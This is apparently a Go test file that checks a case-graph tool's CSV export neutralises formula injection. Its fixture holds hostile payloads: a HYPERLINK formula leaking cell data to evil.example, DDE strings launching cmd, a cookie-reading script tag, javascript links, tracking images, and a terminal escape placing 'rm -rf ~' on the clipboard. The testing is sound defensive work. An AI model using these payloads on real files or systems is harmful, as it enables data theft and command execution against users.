package export

import (
	"bytes"
	"encoding/csv"
	"strings"
	"testing"

	"casegraph/graph"
)

// Hostile strings an imported file or a case may carry.
const (
	hyperlink = `=HYPERLINK("http://evil.example/?leak="&A1,"click")`
	dde       = `+cmd|' /C calc'!A0`
	minusF    = `-2+3+cmd|' /C notepad'!A0`
	atF       = `@SUM(1+1)*cmd|' /C calc'!A0`
	scriptTag = `<script>alert(document.cookie)</script>`
	jsLink    = `[click me](javascript:alert(1))`
	remoteImg = `![x](http://evil.example/track.png) <img src="http://evil.example/p.gif">`
	termEsc   = "\x1b]52;c;cm0gLXJmIH4K\a\x1b[2J\u202egpj.exe"
)

// hostileInput is the fixture with formulas, markup and terminal escapes in
// every user-supplied string, a refund with a negative amount and an
// E.164 phone number as a name.
func hostileInput() Input {
	in := fixture()
	in.Case.Name = hyperlink + " " + scriptTag
	in.Case.Description = jsLink + "\n# heading\n" + remoteImg
	in.Case.Tags = append(in.Case.Tags, dde)
	in.Case.Bookmarks[0].Note = scriptTag + " " + jsLink
	in.Case.Notes = append(in.Case.Notes, Note{Time: at("2025-03-17T09:00:00Z"), Text: remoteImg + "\n" + termEsc})
	for i := range in.Entities {
		e := &in.Entities[i]
		switch e.Ref.Kind {
		case graph.KindPerson:
			e.Name = []string{hyperlink, dde, minusF}[i%3] + " " + scriptTag
			e.Src.File = atF + ".csv"
		case graph.KindExchange:
			e.Name = "\t=1+1 " + remoteImg
			e.Props["domain"] = jsLink
		case graph.KindGroup:
			e.Name = "+77015551234"
		}
	}
	in.Entities = append(in.Entities, graph.Entity{Ref: ref(graph.KindDevice, "=DEV(1)`|"), Name: termEsc})
	for i := range in.Txns {
		in.Txns[i].Reference = []string{hyperlink, atF, jsLink, "\r=2", " =3"}[i%5]
	}
	in.Txns = append(in.Txns, graph.Txn{ID: "-T000009", Time: at("2025-03-17T10:00:00Z"), From: ref(graph.KindCard, panA),
		To: ref(graph.KindCard, panB), Amount: -495_000, Currency: "KZT", Channel: graph.ChannelTransfer,
		Reference: "refund " + minusF})
	in.Links = append(in.Links, graph.Link{From: ref(graph.KindPerson, iinA), To: ref(graph.KindDevice, "=DEV(1)`|"),
		Type: graph.LinkUsesDevice, Role: dde})
	in.Sources = append(in.Sources, graph.Batch{ID: 3, File: "=evil|x.csv " + scriptTag, SHA256: "00", Format: "persons"})
	in.Queries = append(in.Queries, "search "+jsLink)
	return in
}

// TestCSVCellsAreNotFormulas: no cell of any CSV file starts with a formula
// character, except amounts in numeric columns and E.164 phone numbers, which
// stay readable.
func TestCSVCellsAreNotFormulas(t *testing.T) {
	for _, redact := range []bool{false, true} {
		dir, _ := export(t, hostileInput(), redact)
		files := readAll(t, dir)
		var sawNegative, sawPhone, sawNeutralised bool
		for _, name := range []string{"entities.csv", "links.csv", "transactions.csv", "i2_import.csv"} {
			rows, err := csv.NewReader(bytes.NewReader(files[name])).ReadAll()
			if err != nil {
				t.Fatalf("%s: %v", name, err)
			}
			for _, row := range rows[1:] {
				for i, cell := range row {
					col := rows[0][i]
					numeric := col == "amount" || col == "LinkAmount" || col == "tx_count"
					if numeric && plainNumber.MatchString(cell) {
						sawNegative = sawNegative || strings.HasPrefix(cell, "-")
						continue
					}
					if e164Phone.MatchString(cell) { // masked when redacting
						sawPhone = true
						continue
					}
					if c := strings.TrimLeft(cell, " \u00a0"); c != "" && strings.ContainsRune(formulaStart, []rune(c)[0]) {
						t.Errorf("redact=%v %s column %s: formula cell %q", redact, name, col, cell)
					}
					sawNeutralised = sawNeutralised || strings.HasPrefix(cell, "'=")
				}
			}
			// Every field is quoted.
			if !bytes.HasPrefix(files[name], []byte(`"`)) {
				t.Errorf("%s: fields are not quoted", name)
			}
		}
		if !sawNegative || (!sawPhone && !redact) || !sawNeutralised {
			t.Errorf("redact=%v: negative amount kept %v, E.164 phone kept %v, formula neutralised %v", redact,
				sawNegative, sawPhone, sawNeutralised)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for _, c := range []struct {
		in      string
		numeric bool
		want    string
	}{
		{hyperlink, false, "'" + hyperlink},
		{"+cmd|x", false, "'+cmd|x"},
		{"-2+3", false, "'-2+3"},
		{"-4950.00", true, "-4950.00"},
		{"-4950.00", false, "'-4950.00"},
		{"-4950.00+cmd", true, "'-4950.00+cmd"},
		{"@SUM(A1)", false, "'@SUM(A1)"},
		{"\t=1", false, "'\t=1"},
		{"\r=1", false, "'\r=1"},
		{"  =1", false, "'  =1"},
		{"＝1+1", false, "'＝1+1"},
		{"+77015551234", false, "+77015551234"},
		{"+7********34", false, "'+7********34"},
		{"Ахметов", false, "Ахметов"},
		{"", false, ""},
		{"a=b", false, "a=b"},
	} {
		if got := csvCell(c.in, c.numeric); got != c.want {
			t.Errorf("csvCell(%q, %v) = %q, want %q", c.in, c.numeric, got, c.want)
		}
	}
}
